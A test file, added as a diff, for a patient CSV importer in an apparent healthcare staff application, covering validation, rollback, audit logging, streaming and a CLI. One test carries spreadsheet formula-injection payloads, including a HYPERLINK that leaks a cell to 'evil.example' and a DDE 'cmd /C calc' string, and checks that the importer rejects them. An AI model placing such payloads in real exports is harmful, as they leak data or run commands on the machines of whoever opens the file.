@@ -1,0 +1,524 @@
+import { spawn } from 'node:child_process';
+import { randomUUID } from 'node:crypto';
+import fs from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { Readable } from 'node:stream';
+import { afterAll, beforeEach, describe, expect, inject, it } from 'vitest';
+import { createKnex, repoRoot } from '@portaldesk/db';
+import type { Actor } from '../../lib/audit.ts';
+import { uniqueSuffix } from '../../testing/harness.ts';
+import { importPatients, type ImportOptions, type ImportProgress, type RowReject } from './patients.import.ts';
+
+const knex = createKnex(inject('databaseUrl'), 4);
+afterAll(() => knex.destroy());
+
+const COLUMNS = [
+  'mrn',
+  'family_name',
+  'given_name',
+  'date_of_birth',
+  'sex',
+  'deceased_date',
+  'phone',
+  'email',
+  'address_line1',
+  'address_line2',
+  'city',
+  'state',
+  'postal_code',
+] as const;
+type Cells = Partial<Record<(typeof COLUMNS)[number], string>>;
+const HEADER = COLUMNS.join(',');
+
+/** MRNs unique to the test, so parallel test files never meet them. */
+let prefix: string;
+beforeEach(() => {
+  prefix = `I${uniqueSuffix()}`.toUpperCase();
+});
+const mrn = (n: number) => `${prefix}-${n}`;
+
+const cell = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
+
+/** One CSV line for patient `n`: a valid patient unless `cells` says otherwise. */
+function row(n: number, cells: Cells = {}, columns: readonly string[] = COLUMNS): string {
+  const values: Record<string, string> = {
+    mrn: mrn(n),
+    family_name: 'Importfamily',
+    given_name: `Given${n}`,
+    date_of_birth: '1980-05-17',
+    sex: 'female',
+    deceased_date: '',
+    phone: '860-555-0100',
+    email: 'pat@example.com',
+    address_line1: '1 Main St',
+    address_line2: '',
+    city: 'Hartford',
+    state: 'CT',
+    postal_code: '06106',
+    ...cells,
+  };
+  return columns.map((column) => cell(values[column])).join(',');
+}
+
+const csv = (...lines: string[]) => `${lines.join('\n')}\n`;
+
+const cliActor = (): Actor => ({ staffUserId: null, username: 'cli:test', roles: [], clientAddress: null, requestId: randomUUID() });
+
+function importText(text: string | Buffer, options: Partial<ImportOptions> = {}) {
+  return importPatients(knex, Readable.from([text]), { actor: cliActor(), fileName: 'patients.csv', ...options });
+}
+
+async function stored(...mrns: string[]) {
+  return knex('patients').whereIn('mrn', mrns).orderBy('mrn').select('*');
+}
+
+async function storedCount(): Promise<number> {
+  const [{ count }] = await knex('patients').where('mrn', 'like', `${prefix}-%`).count<{ count: string }[]>({ count: '*' });
+  return Number(count);
+}
+
+const problemLines = (rejects: RowReject[]) =>
+  rejects.flatMap((reject) => reject.problems.map(({ field, reason }) => `line ${reject.line}: ${field}: ${reason}`));
+
+describe('importPatients', () => {
+  it('when a valid file is imported, then every row is inserted with its values normalised', async () => {
+    const report = await importText(
+      csv(
+        HEADER,
+        row(1, { sex: 'f', phone: '+1 (860) 555-0199', state: 'ct', postal_code: '061061234', address_line1: '  12  Elm St\nApt 4 ' }),
+        row(2, { sex: 'Male', email: '', address_line2: '', deceased_date: '2020-02-29' }),
+      ),
+    );
+
+    expect(report).toMatchObject({ committed: true, rowsRead: 2, valid: 2, rejected: 0, inserted: 2, updated: 0, unchanged: 0 });
+    const [first, second] = await stored(mrn(1), mrn(2));
+    expect(first).toMatchObject({
+      family_name: 'Importfamily',
+      given_name: 'Given1',
+      date_of_birth: '1980-05-17',
+      sex: 'female',
+      deceased_date: null,
+      phone: '860-555-0199',
+      state: 'CT',
+      postal_code: '06106-1234',
+      address_line1: '12 Elm St Apt 4',
+      address_line2: null,
+    });
+    expect(second).toMatchObject({ sex: 'male', email: null, deceased_date: '2020-02-29' });
+  });
+
+  it('when an import commits, then one audit row names the command-line user and the counts, never patient values', async () => {
+    const actor = cliActor();
+    await importText(csv(HEADER, row(1), row(2)), { actor, fileName: 'extract-2026-11-25.csv' });
+
+    const audits = await knex('audit_events').where({ request_id: actor.requestId });
+    expect(audits).toHaveLength(1);
+    expect(audits[0]).toMatchObject({
+      staff_user_id: null,
+      staff_username: 'cli:test',
+      roles: [],
+      client_address: null,
+      action: 'import',
+      resource: 'patients',
+      outcome: 'success',
+      details: { fileName: 'extract-2026-11-25.csv', dryRun: false, rowsRead: 2, valid: 2, rejected: 0, inserted: 2, updated: 0, unchanged: 0 },
+    });
+    expect(JSON.stringify(audits[0].details)).not.toMatch(new RegExp(`${prefix}|Importfamily|Given1|1980-05-17`));
+  });
+
+  it('when the same file is imported twice, then the second run inserts nothing and reports every row unchanged', async () => {
+    const file = csv(HEADER, row(1), row(2), row(3));
+    await importText(file);
+    const before = await stored(mrn(1), mrn(2), mrn(3));
+
+    const again = await importText(file);
+
+    expect(again).toMatchObject({ committed: true, valid: 3, inserted: 0, updated: 0, unchanged: 3 });
+    expect(await stored(mrn(1), mrn(2), mrn(3))).toEqual(before);
+  });
+
+  it('when one phone number changed, then only that patient is updated', async () => {
+    await importText(csv(HEADER, row(1), row(2), row(3)));
+    const [, untouchedBefore] = await stored(mrn(1), mrn(2));
+
+    const report = await importText(csv(HEADER, row(1, { phone: '(203) 555-0142' }), row(2), row(3)));
+
+    expect(report).toMatchObject({ inserted: 0, updated: 1, unchanged: 2 });
+    const [changed, untouched] = await stored(mrn(1), mrn(2));
+    expect(changed.phone).toBe('203-555-0142');
+    expect(changed.updated_at.getTime()).toBeGreaterThan(changed.created_at.getTime());
+    expect(untouched.updated_at).toEqual(untouchedBefore.updated_at);
+  });
+
+  it('when an optional column is left out of the file, then the stored values of that column are kept', async () => {
+    await importText(csv(HEADER, row(1, { phone: '860-555-0111', email: 'kept@example.com' })));
+    const columns = COLUMNS.filter((column) => column !== 'phone' && column !== 'email');
+
+    const report = await importText(csv(columns.join(','), row(1, { city: 'New Haven' }, columns)));
+
+    expect(report).toMatchObject({ updated: 1 });
+    const [patient] = await stored(mrn(1));
+    expect(patient).toMatchObject({ city: 'New Haven', phone: '860-555-0111', email: 'kept@example.com' });
+  });
+
+  it('when it is a dry run, then it reports what would change and writes nothing', async () => {
+    const actor = cliActor();
+    const newPatients = await importText(csv(HEADER, row(1), row(2)), { dryRun: true, actor });
+    expect(newPatients).toMatchObject({ dryRun: true, committed: false, valid: 2, inserted: 2, updated: 0, unchanged: 0 });
+    expect(await storedCount()).toBe(0);
+    const [audit] = await knex('audit_events').where({ request_id: actor.requestId });
+    expect(audit).toMatchObject({ outcome: 'success', details: { dryRun: true, inserted: 2 } });
+
+    await importText(csv(HEADER, row(1), row(2)));
+    const changedPhone = await importText(csv(HEADER, row(1, { phone: '860-555-0177' }), row(2), row(3)), { dryRun: true });
+
+    expect(changedPhone).toMatchObject({ committed: false, inserted: 1, updated: 1, unchanged: 1 });
+    expect(await storedCount()).toBe(2);
+    expect((await stored(mrn(1)))[0].phone).toBe('860-555-0100');
+  });
+
+  it('when one row among good ones is bad, then nothing at all is written and the bad row is reported', async () => {
+    const actor = cliActor();
+    const report = await importText(csv(HEADER, row(1), row(2, { date_of_birth: '2023-02-30' }), row(3)), { actor });
+
+    expect(report).toMatchObject({ committed: false, rowsRead: 3, valid: 2, rejected: 1, inserted: 0, updated: 0, unchanged: 0 });
+    expect(report.rejects).toEqual([{ line: 3, mrn: mrn(2), problems: [{ field: 'date_of_birth', reason: 'is not a real calendar date' }] }]);
+    expect(await storedCount()).toBe(0);
+    const [audit] = await knex('audit_events').where({ request_id: actor.requestId });
+    expect(audit).toMatchObject({ outcome: 'failed', details: { rejected: 1, inserted: 0 } });
+  });
+
+  it('when a changed file has a bad row, then the stored patients keep their old values', async () => {
+    await importText(csv(HEADER, row(1), row(2)));
+
+    const report = await importText(csv(HEADER, row(1, { family_name: 'Renamed' }), row(2, { sex: 'X' }), row(3)));
+
+    expect(report).toMatchObject({ committed: false, rejected: 1 });
+    expect((await stored(mrn(1)))[0].family_name).toBe('Importfamily');
+    expect(await storedCount()).toBe(2);
+  });
+
+  it('when the file has only a header, then it is a valid import of no rows', async () => {
+    const report = await importText(`${HEADER}\r\n`);
+
+    expect(report).toMatchObject({ committed: true, rowsRead: 0, valid: 0, rejected: 0, inserted: 0, updated: 0, unchanged: 0 });
+  });
+
+  it('when the file is empty or blank, then it is refused as empty', async () => {
+    for (const text of ['', '\ufeff', '\n\r\n   \n']) {
+      await expect(importText(text)).rejects.toMatchObject({ status: 400, code: 'csv_empty' });
+    }
+  });
+
+  it('when a required column is missing, then the whole file is refused and nothing is written', async () => {
+    const columns = COLUMNS.filter((column) => column !== 'sex');
+    const refused = importText(csv(columns.join(','), row(1, {}, columns), row(2, {}, columns)));
+
+    await expect(refused).rejects.toMatchObject({ status: 400, code: 'csv_columns', message: expect.stringContaining('missing required column(s): sex') });
+    expect(await storedCount()).toBe(0);
+  });
+
+  it('when the header names an unknown or repeated column, then the whole file is refused', async () => {
+    await expect(importText(csv(`${HEADER},nickname`, `${row(1)},Patty`))).rejects.toMatchObject({
+      code: 'csv_columns',
+      message: expect.stringContaining('unknown column(s) "nickname"'),
+    });
+    await expect(importText(csv(`${HEADER},mrn`, `${row(1)},${mrn(1)}`))).rejects.toMatchObject({
+      code: 'csv_columns',
+      message: expect.stringContaining('more than once: mrn'),
+    });
+    expect(await storedCount()).toBe(0);
+  });
+
+  it('when the first line is a patient rather than a header, then the file is refused without repeating its values', async () => {
+    const refused = await importText(csv(row(1), row(2))).catch((error: Error) => error);
+
+    expect(refused).toMatchObject({ code: 'csv_columns', message: expect.stringContaining('not a header row') });
+    expect((refused as Error).message).not.toContain(prefix);
+    expect((refused as Error).message).not.toContain('Importfamily');
+  });
+
+  it('when rows are ragged, then each is rejected with its line and the other rows are still checked', async () => {
+    const report = await importText(csv(HEADER, row(1), `${row(2)},extra`, row(3).split(',').slice(0, 5).join(','), row(4, { date_of_birth: '13/45/2001' })));
+
+    expect(report).toMatchObject({ committed: false, rowsRead: 4, valid: 1, rejected: 3 });
+    expect(problemLines(report.rejects)).toEqual([
+      'line 3: row: has 14 cells; the header has 13',
+      'line 4: row: has 5 cells; the header has 13',
+      'line 5: date_of_birth: must be a date as YYYY-MM-DD',
+    ]);
+    expect(report.rejects.map((reject) => reject.mrn)).toEqual([mrn(2), mrn(3), mrn(4)]);
+  });
+
+  it('when the file has a BOM and CRLF line endings and arrives in small chunks, then it imports cleanly', async () => {
+    const bytes = Buffer.from(`\ufeff${[HEADER, row(1), row(2, { address_line1: '9 Oak Rd\r\nUnit 2' })].join('\r\n')}\r\n`);
+    const chunks = Array.from({ length: Math.ceil(bytes.length / 2) }, (_, i) => bytes.subarray(i * 2, i * 2 + 2));
+
+    const report = await importPatients(knex, Readable.from(chunks), { actor: cliActor(), fileName: 'windows.csv' });
+
+    expect(report).toMatchObject({ committed: true, inserted: 2, rejected: 0 });
+    const [first, second] = await stored(mrn(1), mrn(2));
+    expect(first.postal_code).toBe('06106');
+    expect(second.address_line1).toBe('9 Oak Rd Unit 2');
+  });
+
+  it('when dates are impossible, malformed, in the future or before 1900, then each row is rejected naming the field', async () => {
+    const clock = () => new Date('2026-01-15T12:00:00Z');
+    const report = await importText(
+      csv(
+        HEADER,
+        row(1, { date_of_birth: '2026-01-15' }),
+        row(2, { date_of_birth: '2023-02-30' }),
+        row(3, { date_of_birth: '13/45/2001' }),
+        row(4, { date_of_birth: '2026-01-16' }),
+        row(5, { date_of_birth: '1899-12-31' }),
+        row(6, { date_of_birth: '' }),
+        row(7, { deceased_date: '1979-01-01' }),
+        row(8, { deceased_date: '2027-01-01' }),
+      ),
+      { clock },
+    );
+
+    expect(problemLines(report.rejects)).toEqual([
+      'line 3: date_of_birth: is not a real calendar date',
+      'line 4: date_of_birth: must be a date as YYYY-MM-DD',
+      'line 5: date_of_birth: is in the future',
+      'line 6: date_of_birth: is before 1900',
+      'line 7: date_of_birth: is required',
+      'line 8: deceased_date: is before the date of birth',
+      'line 9: deceased_date: is in the future',
+    ]);
+    expect(report).toMatchObject({ valid: 1, rejected: 7, committed: false });
+  });
+
+  it('when fields are malformed, then the row is rejected with one reason per field', async () => {
+    const report = await importText(
+      csv(
+        HEADER,
+        row(1, { mrn: 'has space', family_name: '', sex: 'constructor', phone: '555-0100', email: 'not-an-email', state: 'ZZ', postal_code: '6106' }),
+      ),
+    );
+
+    expect(report.rejects).toEqual([
+      {
+        line: 2,
+        mrn: null,
+        problems: [
+          { field: 'mrn', reason: "must be 1-32 letters, digits, '.', '_' or '-', starting with a letter or digit" },
+          { field: 'family_name', reason: 'is required' },
+          { field: 'sex', reason: 'must be female, male, other or unknown (or F, M, O, U)' },
+          { field: 'phone', reason: 'must be a 10-digit US phone number' },
+          { field: 'email', reason: 'must be an email address' },
+          { field: 'state', reason: 'must be a two-letter US state code' },
+          { field: 'postal_code', reason: 'must be a 5- or 9-digit ZIP code (a spreadsheet may have dropped a leading zero)' },
+        ],
+      },
+    ]);
+  });
+
+  it('when cells look like spreadsheet formulas, then their rows are rejected without echoing them and nothing is written', async () => {
+    const report = await importText(
+      csv(
+        HEADER,
+        row(1, { family_name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' }),
+        row(2, { given_name: '+cmd|\' /C calc\'!A0' }),
+        row(3, { address_line1: '@SUM(1+1)*cmd|\' /C calc\'!A0' }),
+        row(4, { city: '-2+3' }),
+        row(5, { address_line2: '\t=1+1' }),
+        row(6, { phone: '+1 860 555 0100' }),
+      ),
+    );
+
+    const formula = 'starts with =, +, -, @, tab or CR, which a spreadsheet would run as a formula';
+    expect(problemLines(report.rejects)).toEqual([
+      `line 2: family_name: ${formula}`,
+      `line 3: given_name: ${formula}`,
+      `line 4: address_line1: ${formula}`,
+      `line 5: city: ${formula}`,
+      `line 6: address_line2: ${formula}`,
+    ]);
+    expect(report).toMatchObject({ valid: 1, committed: false });
+    expect(await storedCount()).toBe(0);
+  });
+
+  it('when an MRN appears twice in the file, then both rows are rejected naming both lines', async () => {
+    const report = await importText(csv(HEADER, row(1), row(2), row(3), row(1, { given_name: 'Other' })));
+
+    expect(report).toMatchObject({ rowsRead: 4, valid: 2, rejected: 2, committed: false });
+    expect(report.rejects).toEqual([
+      { line: 2, mrn: mrn(1), problems: [{ field: 'mrn', reason: 'appears on 2 lines of the file: 2, 5' }] },
+      { line: 5, mrn: mrn(1), problems: [{ field: 'mrn', reason: 'appears on 2 lines of the file: 2, 5' }] },
+    ]);
+    expect(await storedCount()).toBe(0);
+  });
+
+  it('when a quoted address spans several lines, then later rows keep their physical line numbers', async () => {
+    for (const eol of ['\n', '\r\n']) {
+      const text = [HEADER, row(1, { address_line1: `1 Main St${eol}Apt 4${eol}Rear` }), row(2, { sex: '?' }), ''].join(eol);
+
+      const report = await importText(text);
+
+      expect(problemLines(report.rejects)).toEqual(['line 5: sex: must be female, male, other or unknown (or F, M, O, U)']);
+    }
+  });
+
+  it('when a quote is never closed, then the file is refused naming the line where the row starts', async () => {
+    const text = csv(HEADER, row(1), row(2), `${row(3, { city: 'x' }).replace(',x,', ',"Hart\nford,')}`, row(4), row(5));
+
+    await expect(importText(text)).rejects.toMatchObject({
+      status: 400,
+      code: 'csv_malformed',
+      message: 'Line 4: a quoted cell is never closed. The file is not valid CSV; nothing was imported.',
+    });
+    await expect(importText(csv(HEADER, row(1), row(2, { city: 'x' }).replace(',x,', ',Hart"ford",')))).rejects.toMatchObject({
+      code: 'csv_malformed',
+      message: expect.stringMatching(/^Line 3: a quote appears inside a cell/),
+    });
+    expect(await storedCount()).toBe(0);
+  });
+
+  it('when the file is not UTF-8, then the rows with undecodable text are rejected', async () => {
+    const latin1 = Buffer.concat([Buffer.from(csv(HEADER, row(1)), 'utf8'), Buffer.from(`${row(2, { family_name: 'Müller' })}\n`, 'latin1')]);
+
+    const report = await importText(latin1);
+
+    expect(problemLines(report.rejects)).toEqual(['line 3: family_name: contains control characters or text that is not UTF-8']);
+  });
+
+  it('when more rows are rejected than the report keeps, then every one still reaches onReject', async () => {
+    const seen: RowReject[] = [];
+    const lines = Array.from({ length: 1_500 }, (_, i) => row(i, { sex: 'none' }));
+
+    const report = await importText(csv(HEADER, ...lines), { onReject: (reject) => seen.push(reject) });
+
+    expect(report).toMatchObject({ rejected: 1_500 });
+    expect(report.rejects).toHaveLength(1_000);
+    expect(seen).toHaveLength(1_500);
+    expect(seen.at(-1)?.line).toBe(1_501);
+  });
+
+  it('when the source fails half way, then nothing is written and the error comes back', async () => {
+    const actor = cliActor();
+    async function* failing() {
+      yield csv(HEADER, row(1), row(2));
+      throw new Error('disk went away');
+    }
+
+    await expect(importPatients(knex, Readable.from(failing()), { actor, fileName: 'broken.csv' })).rejects.toThrow('disk went away');
+
+    expect(await storedCount()).toBe(0);
+    const [audit] = await knex('audit_events').where({ request_id: actor.requestId });
+    expect(audit).toMatchObject({ outcome: 'failed', details: { fileName: 'broken.csv', error: 'error' } });
+  });
+
+  it('when the import is aborted, then nothing is written', async () => {
+    const controller = new AbortController();
+    async function* slow() {
+      yield csv(HEADER, row(1), row(2));
+      controller.abort();
+      yield csv(row(3));
+    }
+
+    await expect(importPatients(knex, Readable.from(slow()), { actor: cliActor(), fileName: 'p.csv', signal: controller.signal })).rejects.toMatchObject({
+      name: 'AbortError',
+    });
+    expect(await storedCount()).toBe(0);
+  });
+
+  it('when a file of 200,000 rows streams in, then every row is counted and the source is read as it goes', { timeout: 120_000 }, async () => {
+    const total = 200_000;
+    let generated = 0;
+    async function* lazyFile() {
+      yield `${HEADER}\n`;
+      while (generated < total) {
+        let chunk = '';
+        for (let i = 0; i < 1_000; i += 1) chunk += `${row(generated + i, { given_name: `G${generated + i}` })}\n`;
+        generated += 1_000;
+        yield chunk;
+      }
+    }
+    const progress: ImportProgress[] = [];
+    let furthestAhead = 0;
+
+    const report = await importPatients(knex, Readable.from(lazyFile()), {
+      actor: cliActor(),
+      fileName: 'large.csv',
+      onProgress: (event) => {
+        progress.push(event);
+        if (event.phase === 'reading') furthestAhead = Math.max(furthestAhead, generated - event.rowsRead);
+      },
+    });
+
+    expect(report).toMatchObject({ committed: true, rowsRead: total, valid: total, rejected: 0, inserted: total });
+    expect(await storedCount()).toBe(total);
+    expect(progress.filter((event) => event.phase === 'reading').map((event) => event.rowsRead)).toEqual([50_000, 100_000, 150_000, 200_000]);
+    expect(progress.at(-1)).toMatchObject({ phase: 'saving', rowsRead: total });
+    // Had the whole file been read before validation, the source would be 150,000 rows ahead.
+    expect(furthestAhead).toBeLessThan(20_000);
+  });
+});
+
+describe('npm run import:patients', () => {
+  function runCli(...args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
+    return new Promise((resolve, reject) => {
+      const child = spawn('npx', ['tsx', 'scripts/src/import-patients.ts', ...args], {
+        cwd: repoRoot,
+        env: { ...process.env, DATABASE_URL: inject('databaseUrl') },
+      });
+      let stdout = '';
+      let stderr = '';
+      child.stdout.on('data', (data) => (stdout += data));
+      child.stderr.on('data', (data) => (stderr += data));
+      child.on('error', reject);
+      child.on('close', (code) => resolve({ code, stdout, stderr }));
+    });
+  }
+
+  it('when run from the command line, then it exits 0, 1 or 2 and prints the summary and the rejects', { timeout: 90_000 }, async () => {
+    const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'import-patients-'));
+    try {
+      const good = path.join(dir, 'good.csv');
+      const bad = path.join(dir, 'bad.csv');
+      const noSex = path.join(dir, 'no-sex.csv');
+      const rejects = path.join(dir, 'rejects.csv');
+      await fs.writeFile(good, csv(HEADER, row(1), row(2)));
+      await fs.writeFile(bad, csv(HEADER, ...Array.from({ length: 120 }, (_, i) => row(i + 10, { date_of_birth: '2023-02-30' }))));
+      const columns = COLUMNS.filter((column) => column !== 'sex');
+      await fs.writeFile(noSex, csv(columns.join(','), row(3, {}, columns)));
+
+      const [imported, rejected, refused, usage] = await Promise.all([
+        runCli(good),
+        runCli(bad, '--rejects', rejects),
+        runCli(noSex),
+        runCli(),
+      ]);
+      const again = await runCli(good, '--dry-run');
+
+      expect(imported.code).toBe(0);
+      expect(imported.stdout).toMatch(/good\.csv: imported\n {2}read +2\n {2}valid +2\n {2}rejected +0\n {2}inserted +2\n {2}updated +0\n {2}unchanged +0\n {2}seconds +\d/);
+      expect(again.code).toBe(0);
+      expect(again.stdout).toContain('dry run: nothing was written');
+      expect(again.stdout).toMatch(/unchanged +2/);
+
+      expect(rejected.code).toBe(1);
+      expect(rejected.stdout).toContain('nothing was written: 120 rows rejected');
+      const listed = rejected.stderr.split('\n').filter((line) => line.startsWith('line '));
+      expect(listed).toHaveLength(100);
+      expect(listed[0]).toBe('line 2: date_of_birth: is not a real calendar date');
+      expect(rejected.stderr).toContain(`… and 20 more rejected rows (all rejects are in ${rejects})`);
+      const rejectsCsv = (await fs.readFile(rejects, 'utf8')).trimEnd().split('\n');
+      expect(rejectsCsv).toHaveLength(121);
+      expect(rejectsCsv[0]).toBe('line,mrn,reason');
+      expect(rejectsCsv[1]).toBe(`2,${mrn(10)},date_of_birth: is not a real calendar date`);
+
+      expect(refused.code).toBe(2);
+      expect(refused.stderr).toContain('missing required column(s): sex');
+      expect(usage.code).toBe(2);
+      expect(usage.stderr).toContain('Usage: npm run import:patients -- FILE.csv');
+      expect(await storedCount()).toBe(2);
+    } finally {
+      await fs.rm(dir, { recursive: true, force: true });
+    }
+  });
+});
